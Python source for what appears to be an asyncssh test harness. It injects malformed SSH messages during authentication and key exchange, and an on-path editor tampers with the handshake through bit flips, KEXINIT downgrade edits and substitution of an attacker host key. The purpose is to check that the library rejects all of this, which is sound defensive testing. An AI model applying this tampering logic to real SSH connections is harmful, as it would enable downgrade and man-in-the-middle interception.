                    # re-key traffic after the first exchange is legal
                    if peer.kex_count > 0 and (t in (20, 21) or
                                               30 <= t <= 49):
                        t = 2

                    from simkit.tape import Rng
                    r = Rng('inj:%d' % inj['rnd'])
                    body = wellformed(t, r.bytes)
                    shape = inj['shape']

                    if shape == 'empty':
                        body = b''
                    elif shape == 'random':
                        body = r.bytes(1 + inj['rnd'] % 40)
                    elif shape == 'truncated':
                        body = body[:-1] if body else b''
                    elif shape == 'trailing':
                        body = body + b'\x00'

                    sim.log('inject', t, shape)
                    out.setdefault('injected', []).append((t, shape))
                    real_send(bytes([t]) + body, injected=True)

            if _only_inject:
                return

            peer.count += 1
            real_send(payload, **kwargs)

        if plan.get('after'):
            # same injection, placed right after own message `pos`
            before_send = send

            def send(payload, **kwargs):   # noqa: F811
                if inject and peer.count == plan['pos'] and \
                        out['injected_at_epoch'] is None:
                    peer.count += 1
                    real_send(payload, **kwargs)
                    peer.count -= 1
                    saved = peer.count
                    before_send(b'', _only_inject=True)
                    peer.count = saved + 1
                else:
                    before_send(payload, **kwargs)

        peer.send = send
        return peer

    data = b'0123456789abcdef' * 20

    async def ref_client(peer):
        await peer.handshake()
        peer.send(bytes([5]) + string(b'ssh-userauth'))
        await peer.expect(6)

        if plan.get('kbd'):
            peer.send(bytes([50]) + string(b'alice') +
                      string(b'ssh-connection') +
                      string(b'keyboard-interactive') + string(b'') +
                      string(b''))

            while True:
                p = await peer.recv(skip=(2, 4, 3))

                if p[0] == 60:
                    peer.send(bytes([61]) + u32(1) + string(b'no'))
                elif p[0] == 51:
                    break
                elif p[0] == 52:
                    # (only reachable through an injected response)
                    peer.authed = True
                    break
                elif p[0] not in (7, 53):
                    raise PeerError('kbdint reply %d' % p[0])

        peer.send(bytes([50]) + string(b'alice') + string(b'ssh-connection')
                  + string(b'password') + boolean(False) +
                  string(b'pw-alice'))

        while True:
            p = await peer.recv(skip=(2, 4, 3))

            if p[0] == 52:
                break

            if p[0] in (7, 53):
                continue

            raise PeerError('auth reply %d' % p[0])

        peer.authed = True
        peer.send(bytes([90]) + string(b'session') + u32(7) + u32(1 << 20) +
                  u32(32768))
        their = None

        while their is None:
            p = await peer.recv(skip=(2, 4, 3))

            if p[0] == 91:
                their = Reader(p, 5).u32()
            elif p[0] in (80, 7):
                continue
            else:
                raise PeerError('open reply %d' % p[0])

        peer.send(bytes([98]) + u32(their) + string(b'exec') +
                  boolean(True) + string(b'echo'))
        peer.send(bytes([94]) + u32(their) + string(data))
        got = b''

        while len(got) < len(data):
            p = await peer.recv(skip=(2, 4, 3))

            if p[0] == 94:
                r = Reader(p, 5)
                got += r.string()
            elif p[0] in (99, 93, 80, 98):
                continue
            else:
                raise PeerError('unexpected %d while echoing' % p[0])

        out['echo'] = got
        peer.send(bytes([97]) + u32(their))
        peer.send(bytes([1]) + u32(11) + string(b'bye') + string(b''))

    async def ref_server(peer):
        await peer.handshake()
        await peer.expect(5)
        peer.send(bytes([6]) + string(b'ssh-userauth'))

        while True:
            p = await peer.recv(skip=(2, 4, 3))

            if p[0] == 50:
                peer.saw_50 += 1
                r = Reader(p, 1)
                r.string(), r.string()
                method = r.string()

                if method == b'password':
                    break

                cdlg = plan.get('cdlg')

                if method == b'publickey' and cdlg == 'pk' and \
                        not r.boolean():
                    # a query: the key would be acceptable (the signed
                    # request that follows is then turned down)
                    alg, blob = r.string(), r.string()
                    peer.send(bytes([60]) + string(alg) + string(blob))
                elif method == b'keyboard-interactive' and cdlg == 'kbd':
                    peer.send(bytes([60]) + string(b't') + string(b'i') +
                              string(b'') + u32(1) + string(b'answer?') +
                              boolean(False))
                elif method == b'none' and cdlg:
                    peer.send(bytes([51]) + namelist(
                        [b'publickey' if cdlg == 'pk' else
                         b'keyboard-interactive', b'password']) +
                        boolean(False))
                else:
                    peer.send(bytes([51]) + namelist([b'password']) +
                              boolean(False))
            elif p[0] == 61 and plan.get('cdlg') == 'kbd':
                peer.send(bytes([51]) + namelist([b'password']) +
                          boolean(False))
            elif p[0] == 7:
                continue
            else:
                raise PeerError('unexpected %d before auth' % p[0])

        out['requests_outstanding'] = True
        peer.send(bytes([52]))
        peer.authed = True
        chan = None

        while True:
            try:
                p = await peer.recv(skip=(2, 4, 3))
            except Closed:
                return

            t = p[0]

            if t == 90:
                chan = Reader(p, 1 + 4 + len(b'session')).u32()
                peer.send(bytes([91]) + u32(chan) + u32(3) + u32(1 << 20) +
                          u32(32768))
            elif t == 98:
                r = Reader(p, 5)
                r.string()

                if r.boolean():
                    peer.send(bytes([99]) + u32(chan))
            elif t == 94:
                r = Reader(p, 5)
                peer.send(bytes([94]) + u32(chan) + string(r.string()))
            elif t == 97:
                peer.send(bytes([97]) + u32(chan))
            elif t == 1:
                return

    class CSess(asyncssh.SSHClientSession):
        def __init__(self):
            self.done = sim.loop.create_future()

        def data_received(self, d, datatype):
            out['client_got'] += d

            if len(out['client_got']) >= len(data) and not self.done.done():
                self.done.set_result(None)

        def exit_status_received(self, status):
            out['exit_status'] = status

        def connection_lost(self, exc):
            if not self.done.done():
                self.done.set_result(None)

    async def main():
        if role == 'server':
            def sfactory():
                o = PhaseServer(world, out)
                owners.append(o)
                return o

            acc = await asyncssh.listen('127.0.0.1', 22,
                                        server_factory=sfactory,
                                        **server_opts(encoding=None,
                                                      login_timeout=60))
            peer = make_peer('client', kex=['curve25519-sha256'],
                             enc=['aes128-ctr'], mac=['hmac-sha2-256'])
            out['peer'] = peer
            await sim.loop.create_connection(lambda: peer, '127.0.0.1', 22)

            try:
                await ref_client(peer)
            except (PeerError, Closed, Short) as exc:
                out['peer_error'] = exc

            await world.gate('done')
            peer.close()
            acc.close()
            await acc.wait_closed()
        else:
            def factory():
                peer = make_peer('server',
                                 host_keys=[load_private('host_ed25519')],
                                 kex=['curve25519-sha256'],
                                 enc=['aes128-ctr'], mac=['hmac-sha2-256'])
                out['peer'] = peer

                async def runner():
                    try:
                        await ref_server(peer)
                    except (PeerError, Closed, Short) as exc:
                        out['peer_error'] = exc

                sim.track('ref-server', runner())
                return peer

            srv = await sim.loop.create_server(factory, '127.0.0.1', 22)

            def cfactory():
                o = PhaseClient(world, out)
                owners.append(o)
                return o

            try:
                conn = await asyncssh.connect(
                    '127.0.0.1', 22, client_factory=cfactory,
                    **client_opts(known_hosts=([pubkey('host_ed25519')], [],
                                               []),
                                  username='alice', password='pw-alice',
                                  login_timeout=60,
                                  **(dict(client_keys=[key('user_ed25519')])
                                     if plan.get('cdlg') == 'pk' else {})))
                out['connected'] = True
                sess = CSess()
                chan, _ = await conn.create_session(lambda: sess,
                                                    command='echo',
                                                    encoding=None)
                chan.write(data)
                await sess.done
                await world.gate('done')
                conn.close()
                await conn.wait_closed()
            except Exception as exc: # pylint: disable=broad-except
                out['client_exc'] = exc
                await world.gate('done')

            srv.close()

    world.start(main())
    world.run_phase()
    out['owner_lost'] = [type(e).__name__ if e else None
                         for o in owners for e in o.lost]
    out['owner_alive'] = bool(owners) and not owners[0].lost
    peer = out.get('peer')

    if peer is not None and peer.bug:
        world.close()
        from simkit.runner import HarnessError
        raise HarnessError('RefPeer stub crashed:\n' + peer.bug)

    if peer is not None:
        out['unimpl'] = sum(1 for p in peer.received if p and p[0] == 3)

    return world, out


def outcome(out, role):
    """What an observer of the asyncssh endpoint and its application sees"""

    if role == 'server':
        return (out['auth_user'], out['sessions'], out['srv_data'],
                out['exec'], tuple(out['pw_checks']), out['tcp_opens'],
                out['fwd_requests'], out['echo'])

    return (out['connected'], out['client_auth_completed'],
            out['client_got'], out['banner'], out['exit_status'])


def run_plan(plan, sched_seed=None, sched_replay=None):
    # baseline: same plan, no injection, default schedule
    bworld, base = one_run(plan, False, None, [])
    bworld.close()
    world, out = one_run(plan, True, sched_seed, sched_replay)
    sim = world.sim
    role = plan['role']
    injected = out.get('injected')
    sim.probes['role_' + role] += 1

    if not plan['seq_reset'] and plan['strict']:
        sim.probes['no_seq_reset'] += 1

        if out['owner_alive'] and (out['auth_user'] or out['connected']):
            world.violation(
                'strict-kex-no-reset-accepted',
                'peer advertised strict KEX but did not restart its sequence '
                'numbers at NEWKEYS, and the session was established')
    elif injected:
        epoch = out['injected_at_epoch']
        pre_kex = epoch == 0
        ended = not out['owner_alive'] and any(out['owner_lost'])
        clean_end = not out['owner_alive'] and not any(out['owner_lost'])

        if len(injected) > 1:
            sim.probes['pair_injection'] += 1

        if pre_kex:
            sim.probes['inject_prekex'] += 1
        elif not out.get('inject_authed'):
            sim.probes['inject_preauth'] += 1
        else:
            sim.probes['inject_postauth'] += 1

        # phase as the asyncssh endpoint saw it: had it sent (server) or
        # received (client) USERAUTH_SUCCESS before it *processed* the
        # injected packet?  Its receive log is in processing order and holds
        # every packet the peer sent, so the injected one is number
        # inject_index among the received.
        if not pre_kex and 'inject_index' in out:
            for label, pkts in sorted(sim.pkts.items()):
                conn_obj = sim.conns.get(label)

                if conn_obj is None or \
                        conn_obj.is_client() != (role == 'client'):
                    continue

                nrecv = 0
                authed_then = False

                for d, t, *_rest in pkts:
                    if d == 'R':
                        if nrecv == out['inject_index']:
                            break

                        nrecv += 1

                        if t == 52 and role == 'client':
                            authed_then = True
                    elif d == 'S' and t == 52 and role == 'server':
                        authed_then = True

                out['inject_authed'] = authed_then

        same = outcome(out, role) == outcome(base, role)
        phase = 'prekex' if pre_kex else \
            'postauth' if out.get('inject_authed') else 'preauth'
        sender = 'client' if role == 'server' else 'server'
        # one in-phase message in a pair is enough to change the outcome
        # legitimately, so the differential only applies when none is
        legal = any(in_phase(sender, phase, t,
                             out.get('inject_outstanding'))
                    for t, _s in injected)

        if legal:
            sim.probes['inject_in_phase_skipped'] += 1
        elif ended:
            sim.probes['ended_with_error'] += 1
        elif same:
            sim.probes['proceeded_as_baseline'] += 1

            if out['unimpl']:
                sim.probes['unimplemented_reply'] += 1
        else:
            # a DISCONNECT we injected ourselves legitimately ends it
            if not (clean_end and any(t == 1 for t, _s in injected)) and \
                    not (any(t == 1 for t, _s in injected) and
                         not out['owner_alive']):
                world.violation(
                    'injected-message-took-effect',
                    '%s role, injected %r before own message #%d (exchange '
                    '%d, authenticated=%s, strict=%s): connection did not '
                    'end with an error and the outcome differs from the run '
                    'without it: %r vs baseline %r' %
                    (role, injected, plan['pos'], epoch,
                     out.get('inject_authed'), plan['strict'],
                     outcome(out, role), outcome(base, role)),
                    sig='%d:%s' % (injected[0][0],
                                   'prekex' if pre_kex else
                                   'postauth' if out.get('inject_authed')
                                   else 'preauth'))

        # hard rules
        if pre_kex and plan['strict'] and not ended and \
                not all(t == 1 for t, _s in injected):
            if same and out['owner_alive']:
                world.violation(
                    'strict-kex-violation-tolerated',
                    'strict KEX negotiated, %r injected during the initial '
                    'exchange, and the session went on' % (injected,),
                    sig=str(injected[0][0]))
        elif pre_kex and plan['strict'] and ended:
            sim.probes['strict_fatal'] += 1

    # between its own first NEWKEYS and the peer's, the only message the
    # exchange calls for is that NEWKEYS: a KEXINIT arriving there must not
    # make the endpoint start another exchange (seen as a KEXINIT of its own)
    for label, pkts in sorted(sim.pkts.items()):
        if sim.conns.get(label) is None:
            continue

        sent_newkeys = False

        for d, t, *_rest in pkts:
            if d == 'S' and t == 21:
                sent_newkeys = True
            elif d == 'R' and t == 21:
                break
            elif d == 'S' and t == 20 and sent_newkeys:
                world.violation(
                    'kex-restarted-before-newkeys',
                    '%s answered a KEXINIT that arrived where only NEWKEYS '
                    'is called for (after its own NEWKEYS, before the '
                    'peer\'s) with a KEXINIT of its own: the first exchange '
                    'was restarted (injected %r)' %
                    (label, out.get('injected')), sig='kexinit')
                break

    if role == 'client':
        # by the client's own packet log: when USERAUTH_SUCCESS arrived, had
        # it sent a USERAUTH_REQUEST that no FAILURE had answered yet?  (What
        # the peer had *seen* by then does not matter: a SUCCESS injected
        # right after SERVICE_ACCEPT can cross the client's "none" request on
        # the wire, and accepting it is what RFC 4252 allows.)
        pending = None
        acted_unasked = False

        for label, pkts in sorted(sim.pkts.items()):
            conn_obj = sim.conns.get(label)

            if conn_obj is None or not conn_obj.is_client():
                continue

            n = 0
            asked = 0
            unasked = False

            for d, t, *_rest in pkts:
                if d == 'S' and t == 50:
                    n += 1
                elif d == 'R' and t == 51:
                    n = max(0, n - 1)
                elif d == 'R' and t == 60:
                    # PK_OK / INFO_REQUEST / PASSWD_CHANGEREQ answer a
                    # request as well: from here until the client's next
                    # message nothing of its own is outstanding
                    if n == 0:
                        unasked = True
                    else:
                        asked += 1

                    n = max(0, n - 1)
                elif d == 'S' and t == 61:
                    # (a response still owed to a challenge that was asked
                    # for is not an answer to the one that was not)
                    if asked:
                        asked -= 1
                    elif unasked:
                        acted_unasked = True

                    n += 1
                elif d == 'R' and t == 52:
                    pending = n
                    break

        if acted_unasked:
            world.violation(
                'challenge-without-request',
                'the client answered (USERAUTH_INFO_RESPONSE) a method-'
                'specific message that arrived while no request of its own '
                'was outstanding; the application was prompted %d time(s)' %
                out['client_kbd_challenges'], sig='kbd')

        if not out['client_auth_completed']:
            pass
        elif pending == 0:
            world.violation('success-without-request',
                            'client reported auth_completed although no '
                            'request of its own was outstanding when '
                            'USERAUTH_SUCCESS arrived')
        elif pending:
            sim.probes['success_with_request_outstanding'] += 1

    if role == 'server' and out['kbd_unsolicited']:
        world.violation(
            'response-without-challenge',
            'the server application was asked to validate a keyboard-'
            'interactive response although no challenge was outstanding '
            '(challenges %d, responses %r, injected %r)' %
            (out['kbd_challenges'], out['kbd_validated'],
             out.get('injected')), sig='kbd')

    if out.get('kbd'):
        sim.probes['kbd_dialogue'] += 1

    if role == 'server' and out['auth_user'] and \
            ['yes'] in out['kbd_validated']:
        # authenticated through an (injected) correct response: decided by
        # the rule above
        pass
    elif role == 'server' and out['auth_user'] and \
            ('alice', 'pw-alice') not in out['pw_checks']:
        world.violation('auth-without-credential', 'server authenticated %r '
                        'without a valid password check' % out['auth_user'])

    if not injected and plan['seq_reset'] and \
            outcome(out, role) != outcome(base, role):
        # position beyond the dialogue: both runs must agree
        pass

    world.open_gate('done')
    world.run_phase()
    world.check_loop_health(allow_hang=True, loop_errors=False)
    world.states.add((role, plan['pos'], tuple(i['t'] for i in plan['inject']),
                      plan['inject'][0]['shape'], plan['strict'],
                      bool(injected)))
    sample = {'role': role, 'pos': plan['pos'], 'inject': plan['inject'],
              'strict': plan['strict'], 'seq_reset': plan['seq_reset'],
              'injected': injected, 'owner_lost': out['owner_lost'],
              'peer_error': repr(out['peer_error'])}
    return world.result(nontrivial=bool(injected) or not plan['seq_reset'],
                        sample=sample)
