"""C03 -- key exchange binds the whole negotiation; no silent downgrade."""

import os

import asyncssh

from simkit.net import DATA
from simkit.refssh import codec
from simkit.refssh.observer import Observer
from simkit.sshwire import Reader, Short, string, namelist, u32
from simkit.world import World, RecClient, RecServer, client_opts, \
    server_opts, key, pubkey, KEYDIR

ID = 'C03'
NAME = 'kex_binding'
QUICK_S = 45
THOROUGH_S = 900
CHUNK = 40

KEXES = ['mlkem768x25519-sha256', 'mlkem768nistp256-sha256',
         'mlkem1024nistp384-sha384', 'curve25519-sha256',
         'curve25519-sha256@libssh.org', 'curve448-sha512',
         'ecdh-sha2-nistp521', 'ecdh-sha2-nistp384', 'ecdh-sha2-nistp256',
         'diffie-hellman-group-exchange-sha256',
         'diffie-hellman-group-exchange-sha1',
         'diffie-hellman-group14-sha256', 'diffie-hellman-group15-sha512',
         'diffie-hellman-group16-sha512', 'diffie-hellman-group14-sha1',
         'diffie-hellman-group1-sha1', 'rsa2048-sha256', 'rsa1024-sha1']
ENCS = ['chacha20-poly1305@openssh.com', 'aes256-gcm@openssh.com',
        'aes128-gcm@openssh.com', 'aes256-ctr', 'aes128-ctr', 'aes128-cbc',
        '3des-cbc', 'arcfour256']
MACS = ['umac-64-etm@openssh.com', 'hmac-sha2-256-etm@openssh.com',
        'hmac-sha2-512-etm@openssh.com', 'hmac-sha1-etm@openssh.com',
        'hmac-sha2-256', 'hmac-sha2-512', 'hmac-sha1', 'hmac-md5',
        'hmac-sha1-96']
CMPS = ['none', 'zlib@openssh.com', 'zlib']
HOSTKEYS = ['host_ed25519', 'host_rsa', 'host_ecdsa256']
HK_ALGS = ['ssh-ed25519', 'rsa-sha2-256', 'rsa-sha2-512', 'ssh-rsa',
           'ecdsa-sha2-nistp256']
LISTS = ['kex', 'hostkey', 'enc_cs', 'enc_sc', 'mac_cs', 'mac_sc', 'cmp_cs',
         'cmp_sc']

RULE = ('One handshake per run between a real client and a real server '
        'whose kex/cipher/MAC/compression/host-key preference lists are '
        'random sub-permutations (with and without overlap) of what asyncssh '
        'supports without GSS, over every kex method incl. RSA and the '
        'hybrids. An on-path editor parses the cleartext handshake and makes '
        'no edit or one edit: bit flip in either version string or in any '
        'payload byte of any cleartext message of either direction, '
        'name-list surgery on a KEXINIT (delete/keep-last/reverse/insert/'
        'swap = downgrade attempts), first_kex_packet_follows toggle, host '
        'key replaced by a trusted or untrusted key with the original or an '
        'attacker signature, signature corruption. Oracle: reference '
        'negotiation over the ORIGINAL lists; completed handshake => equal '
        'session ids and exactly the expected algorithms in both directions '
        'on both sides; any edit => connect() raises and the server never '
        'reaches authentication; no edit => success iff every category has a '
        'common algorithm (else KeyExchangeFailed). Non-trivial = an edit '
        'was applied or lists had partial overlap; distinct = (plan, '
        'schedule, trace) signature.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions',
    'session id read from conn._session_id, negotiated kex name from '
    'conn._kex.algorithm at NEWKEYS (no public accessor)',
    'bytes outside the exchange hash (packet padding, CR before LF, banner '
    'lines) are not edited',
    'hybrid ML-KEM encapsulation randomness is outside the seed: lengths '
    'are fixed, so the trace digest is unaffected',
]

REAL = ['asyncssh connection/kex/kex_dh/kex_rsa/public_key code of both '
        'endpoints', 'PyCA']
STUB = ['event loop + clock', 'TCP', 'executor', 'OS randomness',
        'on-path handshake editor (independent cleartext codec)']
PROBES = ['edit_applied', 'edit_flip', 'edit_version', 'edit_list',
          'edit_follows', 'edit_hostkey', 'edit_version_tail', 'edit_pad',
          'no_common_alg',
          'hostkey_alg_checked',
          'handshake_ok', 'downgrade_attempt_effective', 'kex_gex',
          'kex_rsa', 'kex_hybrid', 'second_client_connected']


def sub_perm(rng, items, lo=1):
    k = rng.between(lo, len(items))
    return rng.sample(items, k)


def gen_plan(rng):
    ckex = sub_perm(rng, KEXES)
    skex = sub_perm(rng, KEXES)

    if rng.chance(85) and not set(ckex) & set(skex):
        skex.insert(rng.below(len(skex) + 1), rng.choice(ckex))

    def pair(items, force=85):
        a, b = sub_perm(rng, items), sub_perm(rng, items)

        if rng.chance(force) and not set(a) & set(b):
            b.insert(rng.below(len(b) + 1), rng.choice(a))

        return a, b

    cenc, senc = pair(ENCS)
    cmac, smac = pair(MACS)
    ccmp, scmp = pair(CMPS)
    skeys = sub_perm(rng, HOSTKEYS)
    chk = sub_perm(rng, HK_ALGS)
    ek = rng.weighted([('none', 25), ('flip', 30), ('version', 8),
                       ('list', 20), ('follows', 3), ('hostkey', 14),
                       ('pad', 8)])
    edit = {'kind': ek}

    if ek == 'flip':
        edit.update(dir=rng.choice(['c2s', 's2c']), msg=rng.below(4),
                    pos=rng.below(1 << 16), bit=rng.below(8))
    elif ek == 'version':
        # a bit flip inside the string, or an edit of its tail: white space
        # put in front of CR LF, the CR replaced or doubled
        edit.update(dir=rng.choice(['c2s', 's2c']), pos=rng.below(1 << 16),
                    bit=rng.below(7),
                    tail=rng.choice([None, None, 'space', 'tab', 'cr_to_space',
                                     'cr_to_tab', 'double_cr', 'two_spaces']))
    elif ek == 'list':
        edit.update(dir=rng.choice(['c2s', 's2c']), field=rng.choice(LISTS),
                    op=rng.choice(['delete_first', 'delete_chosen',
                                   'keep_last', 'reverse', 'swap01',
                                   'insert_front']),
                    arg=rng.below(1 << 16))
    elif ek == 'follows':
        edit.update(dir=rng.choice(['c2s', 's2c']))
    elif ek == 'pad':
        edit.update(dir=rng.choice(['c2s', 's2c']), field=rng.below(4),
                    count=rng.choice([1, 1, 3]))

        if rng.chance(60):
            # where the fields are numbers: the finite-field exchanges
            dh = [k for k in KEXES if k.startswith('diffie-hellman')]
            ckex = skex = [rng.choice(dh)]
    elif ek == 'hostkey':
        edit.update(mode=rng.choice(['swap_trusted', 'swap_untrusted',
                                     'resign', 'sigflip', 'sigalg']),
                    pos=rng.below(1 << 16), bit=rng.below(8))

    other = None

    if ek == 'none' and rng.chance(50):
        # what is negotiated on this connection must not depend on what a
        # second client of the same listener negotiates meanwhile
        other = {'hk': sub_perm(rng, HK_ALGS), 'delay': rng.below(12)}

        if rng.chance(60) and 'host_rsa' not in skeys:
            skeys = skeys + ['host_rsa']

    return {
        'drbg': rng.below(1 << 30),
        'profile': {'p_sched': rng.choice([0, 10, 50, 90]),
                    'p_chunk': rng.choice([10, 50, 90]),
                    'latency_ms': rng.choice([0, 0, 5]), 'capacity': 0},
        'c': {'kex': ckex, 'enc': cenc, 'mac': cmac, 'cmp': ccmp,
              'hostkey_algs': chk},
        's': {'kex': skex, 'enc': senc, 'mac': smac, 'cmp': scmp,
              'hostkeys': skeys},
        'edit': edit, 'other': other,
    }


def valid_plan(plan):
    try:
        for side in ('c', 's'):
            for k in ('kex', 'enc', 'mac', 'cmp'):
                if not plan[side][k]:
                    return False

                if any(x not in {'kex': KEXES, 'enc': ENCS, 'mac': MACS,
                                 'cmp': CMPS}[k] for x in plan[side][k]):
                    return False

        if not plan['s']['hostkeys'] or not plan['c']['hostkey_algs']:
            return False

        o = plan.get('other')

        if o is not None and (not o['hk'] or plan['edit']['kind'] != 'none'
                              or any(a not in HK_ALGS for a in o['hk'])
                              or not 0 <= o['delay'] <= 100):
            return False

        if plan['edit']['kind'] == 'pad' and \
                (not 1 <= plan['edit']['count'] <= 8 or
                 plan['edit']['field'] < 0):
            return False

        return plan['edit']['kind'] in ('none', 'flip', 'version', 'list',
                                        'follows', 'hostkey', 'pad')
    except (KeyError, TypeError):
        return False


def build_kexinit(k):
    out = bytes([20]) + k['cookie']

    for n in ('kex', 'hostkey', 'enc_cs', 'enc_sc', 'mac_cs', 'mac_sc',
              'cmp_cs', 'cmp_sc', 'lang_cs', 'lang_sc'):
        out += namelist(k[n])

    return out + bytes([1 if k['first_follows'] else 0]) + \
        u32(k['reserved']) + k['trailing']


_evil = {}


def evil_ed25519():
    if 'k' not in _evil:
        from cryptography.hazmat.primitives import serialization

        with open(os.path.join(KEYDIR, 'evil_ed25519'), 'rb') as f:
            _evil['k'] = serialization.load_ssh_private_key(f.read(), None)

    return _evil['k']


def ed_blob(pub32):
    return string(b'ssh-ed25519') + string(pub32)


class EditWire(Observer):
    def __init__(self, conn, sim, edit):
        super().__init__(conn, sim)
        self.edit = edit
        self.applied = False
        self.detail = None
        self.nclear = {'c2s': 0, 's2c': 0}
        self.plain = codec.Plain()

    def emit(self, pipe, data, index):
        dirname = self.dirname(pipe)
        ds = self.d[dirname]
        e = self.edit
        kind = e['kind']

        if self.applied or kind == 'none':
            pipe.push(DATA, data)
            return

        # version line
        if index == 0:
            if kind == 'version' and e['dir'] == dirname and e.get('tail') \
                    and data.endswith(b'\r\n'):
                body = data[:-2]
                new = {'space': body + b' \r\n', 'tab': body + b'\t\r\n',
                       'two_spaces': body + b'  \r\n',
                       'cr_to_space': body + b' \n',
                       'cr_to_tab': body + b'\t\n',
                       'double_cr': body + b'\r\r\n'}[e['tail']]
                self.applied = True
                self.detail = ('version-tail', dirname, e['tail'])
                pipe.push(DATA, new)
                return

            if kind == 'version' and e['dir'] == dirname:
                body = data.rstrip(b'\r\n')
                tail = data[len(body):]
                pos = e['pos'] % len(body)
                b = bytearray(body)
                b[pos] ^= 1 << e['bit']

                if b[pos] in (10, 13) or bytes(b) == body:
                    b[pos] = body[pos] ^ 0x01

                    if b[pos] in (10, 13):
                        b[pos] = body[pos] ^ 0x02

                self.applied = True
                self.detail = ('version', dirname, pos)
                pipe.push(DATA, bytes(b) + tail)
                return

            pipe.push(DATA, data)
            return

        # only the cleartext phase is editable
        last = ds.packets[-1] if ds.packets else None

        if last is None or last[0] != 0 or last[4] != len(data):
            pipe.push(DATA, data)
            return

        payload = last[3]
        ptype = payload[0]
        n = self.nclear[dirname]
        self.nclear[dirname] += 1
        new = None

        if kind == 'flip' and e['dir'] == dirname and n == e['msg'] and \
                ptype != 21:
            pos = e['pos'] % len(payload)
            b = bytearray(payload)
            b[pos] ^= 1 << e['bit']
            new = bytes(b)
            self.detail = ('flip', dirname, n, ptype, pos)
        elif kind == 'pad' and e['dir'] == dirname and 30 <= ptype <= 49:
            # zero octets put in front of one string field of a key exchange
            # message: the same number if the field is an mpint, other bytes
            # on the wire all the same
            r = Reader(payload, 1)
            fields = []

            try:
                while r.p < len(payload):
                    fields.append(r.string())
            except Short:
                fields = []

            if fields and e['count'] > 0:
                i = e['field'] % len(fields)
                fields[i] = bytes(e['count']) + fields[i]
                new = payload[:1] + b''.join(string(f) for f in fields)
                self.detail = ('pad', dirname, ptype, i, e['count'])
        elif kind in ('list', 'follows') and e['dir'] == dirname and \
                ptype == 20:
            k = dict(ds.kexinit)

            if kind == 'follows':
                k['first_follows'] = not k['first_follows']
            else:
                lst = list(k[e['field']])
                chosen = (self.first_neg or {}).get(e['field'])
                op = e['op']

                if op == 'delete_first' and len(lst) > 1:
                    lst = lst[1:]
                elif op == 'delete_chosen' and chosen in lst and len(lst) > 1:
                    lst.remove(chosen)
                elif op == 'keep_last' and len(lst) > 1:
                    lst = lst[-1:]
                elif op == 'reverse' and len(lst) > 1:
                    lst = lst[::-1]
                elif op == 'swap01' and len(lst) > 1:
                    lst[0], lst[1] = lst[1], lst[0]
                else:
                    pool = {'kex': KEXES, 'hostkey': HK_ALGS}.get(
                        e['field'], ENCS if 'enc' in e['field'] else
                        MACS if 'mac' in e['field'] else CMPS)
                    lst.insert(0, pool[e['arg'] % len(pool)].encode())

                k[e['field']] = lst

            new = build_kexinit(k)

            if new == payload:
                new = None
            else:
                self.detail = (kind, dirname, e.get('field'), e.get('op'))
        elif kind == 'hostkey' and dirname == 's2c' and 30 <= ptype <= 49:
            new = self.edit_hostkey(payload, e)

        if new is None:
            pipe.push(DATA, data)
            return

        self.applied = True
        pipe.push(DATA, self.plain.encode(0, new))

    def edit_hostkey(self, payload, e):
        """Find `string K_S` at the start of a server kex message and the
           trailing `string signature`; edit per mode."""

        r = Reader(payload, 1)

        try:
            ks = r.string()
            kr = Reader(ks)
            alg = kr.string()
        except Short:
            return None

        mode = e['mode']

        if not (alg.startswith(b'ssh-') or alg.startswith(b'ecdsa-') or
                alg.startswith(b'rsa-')):
            # RSA kex DONE message carries only the signature
            if payload[0] == 32 and mode in ('sigflip', 'sigalg'):
                try:
                    sig = Reader(payload, 1).string()
                except Short:
                    return None

                b = bytearray(sig)
                pos = e['pos'] % len(b)
                b[pos] ^= 1 << e['bit']
                self.detail = ('hostkey', mode, 'rsa-done')
                return bytes([32]) + string(bytes(b))

            return None

        rest = payload[r.p:]
        # signature is the last string of the message
        try:
            fields = []
            rr = Reader(rest)

            while not rr.at_end():
                fields.append(rr.string())
        except Short:
            return None

        if mode == 'swap_trusted':
            new_ks = pubkey('host2_ed25519').public_data
        elif mode == 'swap_untrusted':
            new_ks = pubkey('evil_ed25519').public_data
        elif mode == 'resign':
            ek = evil_ed25519()
            from cryptography.hazmat.primitives import serialization
            pub = ek.public_key().public_bytes(
                serialization.Encoding.Raw, serialization.PublicFormat.Raw)
            new_ks = ed_blob(pub)

            if fields and payload[0] != 30:
                sig = ek.sign(bytes(32))
                fields[-1] = string(b'ssh-ed25519') + string(sig)
        elif mode == 'sigalg':
            new_ks = ks

            if not fields or payload[0] == 30:
                return None

            try:
                sr = Reader(fields[-1])
                salg = sr.string()
                sblob = sr.string()
            except Short:
                return None

            swap = {b'rsa-sha2-256': b'rsa-sha2-512',
                    b'rsa-sha2-512': b'rsa-sha2-256',
                    b'ssh-rsa': b'rsa-sha2-256',
                    b'ssh-ed25519': b'ssh-ed448',
                    b'ecdsa-sha2-nistp256': b'ecdsa-sha2-nistp384'}
            fields[-1] = string(swap.get(salg, b'ssh-rsa')) + string(sblob)
        else:
            new_ks = ks

            if not fields or payload[0] == 30:
                return None

            b = bytearray(fields[-1])
            pos = e['pos'] % len(b)
            b[pos] ^= 1 << e['bit']
            fields[-1] = bytes(b)

        self.detail = ('hostkey', mode, payload[0])
        out = bytes([payload[0]]) + string(new_ks)

        for f in fields:
            out += string(f)

        return out if out != payload else None


class KexServer(RecServer):
    def begin_auth(self, username):
        self.world.event(self.name, 'begin_auth')
        return False


def hostkey_on_wire(packets):
    """(key type, signature algorithm) of the server's cleartext kex
       messages: K_S is the first field of the first one that starts with a
       key blob, the signature the last field of the last one"""

    ktype = sig_alg = None

    for epoch, _seq, ptype, payload, _n in packets:
        if epoch != 0 or not 30 <= ptype <= 49:
            continue

        r = Reader(payload, 1)
        fields = []

        try:
            while r.p < len(payload):
                fields.append(r.string())
        except Short:
            pass

        def name_of(blob):
            try:
                a = Reader(blob).string()
            except Short:
                return None

            return a if a.startswith((b'ssh-', b'ecdsa-', b'rsa-')) else None

        if fields and ktype is None and name_of(fields[0]):
            ktype = name_of(fields[0])

        if fields and name_of(fields[-1]) and \
                (len(fields) > 1 or ptype == 32):
            sig_alg = name_of(fields[-1])

    if ktype is None or sig_alg is None:
        return None

    return ktype, sig_alg


def run_plan(plan, sched_seed=None, sched_replay=None):
    world = World(plan, sched_seed, sched_replay)
    sim = world.sim
    wires = []
    owners = {'s': [], 'c': []}
    res = {'conn': None, 'exc': None}

    first_up = sim.loop.create_future()

    def on_connection(conn):
        if not wires:
            wires.append(EditWire(conn, sim, plan['edit']))

            if not first_up.done():
                first_up.set_result(None)

